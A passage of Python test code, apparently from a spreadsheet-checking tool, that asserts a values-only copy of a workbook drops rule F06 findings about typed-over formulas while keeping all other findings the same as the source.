    checked = check_path(copy)
    assert checked.readable and checked.contents.values_only and not source.contents.values_only

    def seen(result):
        return sorted((f.rule, f.location.sheet, f.location.cell, f.message) for f in result.findings)

    assert not [f for f in checked.findings if f.rule == "F06"]
    assert [f for f in source.findings if f.rule == "F06"]  # the example keeps typed-over formulas
    assert seen(checked) == sorted(x for x in seen(source) if x[0] != "F06")
